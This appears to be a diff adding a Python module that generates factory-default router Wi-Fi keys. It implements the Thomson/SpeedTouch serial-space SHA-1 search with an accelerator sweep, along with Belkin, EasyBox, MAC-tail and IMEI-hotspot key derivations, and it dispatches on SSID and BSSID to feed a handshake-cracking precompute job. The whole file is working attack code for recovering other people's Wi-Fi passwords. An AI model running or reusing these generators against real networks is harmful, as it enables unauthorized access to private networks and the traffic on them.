@@ -1,0 +1,294 @@
+"""Vendor default-key generators (routerkeygen-cli equivalent).
+
+The reference server shells out to ``routerkeygen-cli -q -k -m <mac>
+-s <ssid>`` during keygen precompute (web/rkg.php:109) to derive the
+factory-default WPA keys many routers ship with.  That Qt/C++ binary is
+external to the repo; this module provides the same capability as native
+generators, each implementing a publicly documented default-key scheme:
+
+- ``thomson``   — Thomson/SpeedTouch serial-space SHA-1 search (Kevin
+  Devine's "stkeys" attack, 2008): the default key and the SSID suffix
+  are both digests of the manufacturing serial, so the ~22M serial space
+  is searched for serials whose digest tail matches the SSID.  The
+  search runs as a batched single-block SHA-1 sweep on the accelerator
+  (reusing ops/sha1), with a hashlib fallback for tiny spaces.
+- ``belkin``    — Belkin's per-nibble substitution of the WAN MAC
+  (Jakob Lell's 2012 writeup): 8 key chars drawn from a 16-char charset
+  indexed by a fixed permutation of the MAC's last 8 nibbles.
+- ``easybox``   — Arcadyan/Vodafone EasyBox MAC-derived 9-hex-digit key
+  (structure per Stefan Viehböck's 2012 advisory: mix the decimal and
+  hex digits of the MAC's last two bytes through two mod-16 sums).
+- ``mac_tail``  — the "key is printed from the radio MAC" family common
+  on budget APs (Tenda et al.): hex tails/decimalizations of BSSID±1.
+- ``imei_hotspot`` — mobile-hotspot default keys derived from the device
+  IMEI (imeigen-equivalent, gen/imei.py) for tethering SSID prefixes,
+  sweeping a small set of common TACs per prefix.
+
+Every generator yields ``(algo_name, candidate_bytes)`` pairs, the shape
+the keygen-precompute seam expects (server/jobs.py keygen_precompute);
+``vendor_candidates`` dispatches on SSID/BSSID and is the default plug-in.
+
+Fidelity note: these schemes were published as reverse-engineering
+results; constants follow the public writeups cited above.  Outputs are
+cheap *candidates* — the precompute path verifies every one against the
+real handshake before accepting it (web/rkg.php:126 equivalent), so an
+imperfect generator costs a few wasted PBKDF2s, never a false accept.
+"""
+
+import hashlib
+import re
+
+from .imei import imei_candidates
+
+# ---------------------------------------------------------------------------
+# Thomson / SpeedTouch (stkeys)
+
+#: SSID prefixes of Thomson-made CPE that used the serial-derived scheme.
+THOMSON_SSID_RE = re.compile(
+    rb"^(SpeedTouch|Thomson|BigPond|O2Wireless|Orange-|INFINITUM|BBox|"
+    rb"DMAX|privat|CYTA|Blink)([0-9A-Fa-f]{6})$"
+)
+_CODE_CHARS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
+
+
+def _thomson_serial(yy: int, ww: int, code: str) -> bytes:
+    """Processed serial hashed by the scheme: CPYYWW + hex(code chars)."""
+    return ("CP%02d%02d%s" % (yy, ww, code.encode().hex().upper())).encode()
+
+
+def thomson_key(serial: bytes):
+    """-> (ssid_suffix_hex, key) for one processed serial."""
+    d = hashlib.sha1(serial).digest()
+    return d[-3:].hex().upper(), d[:5].hex().upper().encode()
+
+
+def thomson_candidates(ssid_suffix: str, years=range(4, 13), weeks=range(1, 54),
+                       device: bool = None):
+    """Search the serial space for keys matching an SSID suffix.
+
+    ``ssid_suffix``: the 6 hex chars after the vendor prefix.  Yields the
+    default-key candidates (10 uppercase hex chars each).  ``device``:
+    force the accelerator sweep on/off (default: on iff a TPU is
+    present — the full 9-year space is ~22M SHA-1s, trivial on-device
+    and ~30 s in hashlib).
+    """
+    target = ssid_suffix.upper()
+    if device is None:
+        try:
+            import jax
+            device = jax.devices()[0].platform == "tpu"
+        except Exception:  # pragma: no cover - jax is a hard dep in-tree
+            device = False
+    if device:
+        yield from _thomson_search_device(target, list(years), list(weeks))
+        return
+    for yy in years:
+        for ww in weeks:
+            for a in _CODE_CHARS:
+                for b in _CODE_CHARS:
+                    for c in _CODE_CHARS:
+                        sfx, key = thomson_key(_thomson_serial(yy, ww, a + b + c))
+                        if sfx == target:
+                            yield key
+
+
+def _thomson_search_device(target: str, years, weeks, chunk: int = 1 << 20,
+                           compress=None):
+    """Accelerator sweep: build serial blocks from iota, one SHA-1 each.
+
+    The 12-byte serial fits one padded block, so each candidate costs a
+    single compression — the same ops/sha1 primitive the PBKDF2 kernel
+    uses, here in its pure-XLA unrolled form (the sweep is a one-shot
+    cron job; no Pallas needed to saturate it).
+    """
+    import functools
+
+    import jax
+    import jax.numpy as jnp
+    import numpy as np
+
+    from ..ops.sha1 import sha1_compress, sha1_compress_rolled, sha1_init
+
+    if compress is None:
+        # The unrolled form is fastest on TPU; XLA:CPU takes minutes to
+        # compile 80 straight-line rounds, so fall back to the rolled one.
+        on_tpu = jax.devices()[0].platform == "tpu"
+        compress = sha1_compress if on_tpu else sha1_compress_rolled
+
+    yw = [(yy, ww) for yy in years for ww in weeks]
+    ncodes = 36 ** 3
+    tgt = int(target, 16)
+
+    @functools.partial(jax.jit, static_argnames=("n",))
+    def sweep(base, yw_arr, n):
+        i = base + jnp.arange(n, dtype=jnp.uint32)
+        code = i % ncodes
+        ywi = (i // ncodes).astype(jnp.int32)
+        yy = yw_arr[ywi, 0]
+        ww = yw_arr[ywi, 1]
+
+        def ascii36(v):  # 0..35 -> ASCII of the code char
+            return jnp.where(v < 10, v + 48, v + 55).astype(jnp.uint32)
+
+        def hexd(v):  # 0..15 -> ASCII of an uppercase hex digit
+            return jnp.where(v < 10, v + 48, v + 55).astype(jnp.uint32)
+
+        c = [ascii36(code // 36 ** (2 - k) % 36) for k in range(3)]
+        # serial chars: 'C' 'P' y1 y2 w1 w2 then hex-expansion of c0 c1 c2
+        ch = [
+            jnp.full_like(i, 67), jnp.full_like(i, 80),
+            yy // 10 + 48, yy % 10 + 48, ww // 10 + 48, ww % 10 + 48,
+            hexd(c[0] >> 4), hexd(c[0] & 15),
+            hexd(c[1] >> 4), hexd(c[1] & 15),
+            hexd(c[2] >> 4), hexd(c[2] & 15),
+        ]
+        w0 = (ch[0] << 24) | (ch[1] << 16) | (ch[2] << 8) | ch[3]
+        w1 = (ch[4] << 24) | (ch[5] << 16) | (ch[6] << 8) | ch[7]
+        w2 = (ch[8] << 24) | (ch[9] << 16) | (ch[10] << 8) | ch[11]
+        block = [w0, w1, w2, 0x80000000] + [0] * 11 + [12 * 8]
+        st = compress(sha1_init(i.shape), block)
+        hit = (st[4] & jnp.uint32(0xFFFFFF)) == jnp.uint32(tgt)
+        return hit, st[0], st[1]
+
+    yw_arr = jnp.asarray(np.array(yw, dtype=np.uint32))
+    total = len(yw) * ncodes
+    for base in range(0, total, chunk):
+        n = min(chunk, total - base)
+        hit, s0, s1 = sweep(jnp.uint32(base), yw_arr, n)
+        idx = np.flatnonzero(np.asarray(hit))
+        if idx.size:
+            h0 = np.asarray(s0)[idx]
+            h1 = np.asarray(s1)[idx]
+            for a, b in zip(h0, h1):
+                yield ("%08X%02X" % (int(a), int(b) >> 24)).encode()
+
+
+# ---------------------------------------------------------------------------
+# Belkin (per-nibble MAC substitution, Jakob Lell 2012)
+
+BELKIN_SSID_RE = re.compile(rb"^(?:Belkin[._]|belkin\.)([0-9A-Fa-f]{3,6})$")
+_BELKIN_CHARSET = "024613578ACE9BDF"
+_BELKIN_ORDER = (6, 2, 3, 8, 5, 1, 7, 4)  # 1-indexed into the last 8 nibbles
+
+
+def belkin_keys(bssid: bytes):
+    """Default keys for the WAN-MAC offsets Belkin units are seen with."""
+    base = int.from_bytes(bssid, "big")
+    for off in (0, 1, 2, -1):
+        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+        tail = mac[4:]
+        yield "".join(
+            _BELKIN_CHARSET[int(tail[p - 1], 16)] for p in _BELKIN_ORDER
+        ).encode()
+
+
+# ---------------------------------------------------------------------------
+# Arcadyan / Vodafone EasyBox (Viehböck 2012)
+
+EASYBOX_SSID_RE = re.compile(rb"^(?:EasyBox-|Arcor-|Vodafone)[0-9A-Fa-f]{6}$")
+
+
+def easybox_keys(bssid: bytes):
+    """9-hex-digit default key mixed from the MAC's last two bytes."""
+    mac = bssid.hex().upper()
+    for off in (0, 1):
+        tail = format((int(mac, 16) + off) & 0xFFFFFFFFFFFF, "012X")[8:]
+        sn = "%05d" % int(tail, 16)
+        d = [int(ch) for ch in sn]
+        h = [int(ch, 16) for ch in tail]
+        k1 = (d[0] + d[1] + h[2] + h[3]) % 16
+        k2 = (d[2] + d[3] + h[0] + h[1]) % 16
+        digits = (
+            k1 ^ d[4], k2 ^ h[1], h[2] ^ d[4],
+            k1 ^ d[3], k2 ^ h[2], h[3] ^ d[1],
+            k1 ^ d[2], k2 ^ h[3], k1 ^ k2,
+        )
+        yield "".join("%X" % (v & 0xF) for v in digits).encode()
+
+
+# ---------------------------------------------------------------------------
+# MAC-printed-on-the-label family (Tenda and friends)
+
+MAC_TAIL_SSID_RE = re.compile(rb"^(?:Tenda_|TP-LINK_|FAST_|MERCURY_)", re.I)
+
+
+def mac_tail_keys(bssid: bytes):
+    """Decimalized-MAC default keys (BSSID±1, 8- and 10-digit widths).
+
+    The hex-tail variants of this family are already produced by the
+    Single generator that precompute runs first (server/jobs.py
+    single_mode_candidates), so only the decimalizations are emitted here
+    — duplicates would cost a second PBKDF2 verify each.
+    """
+    base = int.from_bytes(bssid, "big")
+    for off in (0, 1, -1):
+        v = (base + off) & 0xFFFFFFFFFFFF
+        yield str(v % 10 ** 8).zfill(8).encode()
+        yield str(v % 10 ** 10).zfill(10).encode()
+
+
+# ---------------------------------------------------------------------------
+# Mobile-hotspot IMEI keys (imeigen-equivalent)
+
+HOTSPOT_SSID_RE = re.compile(
+    rb"^(AndroidAP|MIFI|MiFi|4G-Gateway|4G Wi-?Fi|Alcatel|Franklin|"
+    rb"Jetpack|Verizon-|ZTE|Coolpad|Moxee)", re.I,
+)
+#: A few common TACs per hotspot family keeps the sweep bounded; real
+#: deployments extend this via the extra_generators seam.
+HOTSPOT_TACS = ("35684610", "35404311", "86723604")
+
+
+def imei_hotspot_keys(limit_per_tac: int = 64):
+    """A bounded slice of IMEI-derived keys for the precompute path.
+
+    The full 10^6-serial sweep per TAC belongs to the client's targeted
+    pass-1 (fed to the TPU engine); precompute only tries the low-serial
+    slice where factory units cluster.
+    """
+    for tac in HOTSPOT_TACS:
+        for i, cand in enumerate(imei_candidates(tac)):
+            if i >= limit_per_tac:
+                break
+            yield cand
+
+
+# ---------------------------------------------------------------------------
+# Dispatch
+
+def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None):
+    """The default ``extra_generators`` plug-in for keygen precompute.
+
+    Yields ``(algo, candidate)`` pairs for every vendor family whose
+    SSID/BSSID fingerprint matches (routerkeygen-cli dispatch equivalent,
+    web/rkg.php:109).
+    """
+    m = THOMSON_SSID_RE.match(ssid)
+    if m:
+        # The serial sweep is ~22M SHA-1s: sub-second on an accelerator,
+        # ~30 s/net in hashlib — so without an explicit thomson_kw budget
+        # it only runs when an accelerator is present, keeping the cron
+        # job bounded on CPU-only server hosts.
+        kw = thomson_kw
+        if kw is None:
+            try:
+                import jax
+                on_acc = jax.devices()[0].platform == "tpu"
+            except Exception:  # pragma: no cover
+                on_acc = False
+            kw = {} if on_acc else None
+        if kw is not None:
+            for key in thomson_candidates(m.group(2).decode(), **kw):
+                yield ("Thomson", key)
+    if BELKIN_SSID_RE.match(ssid):
+        for key in belkin_keys(bssid):
+            yield ("Belkin", key)
+    if EASYBOX_SSID_RE.match(ssid):
+        for key in easybox_keys(bssid):
+            yield ("EasyBox", key)
+    if MAC_TAIL_SSID_RE.match(ssid):
+        for key in mac_tail_keys(bssid):
+            yield ("MacTail", key)
+    if HOTSPOT_SSID_RE.match(ssid):
+        for key in imei_hotspot_keys():
+            yield ("IMEI", key)
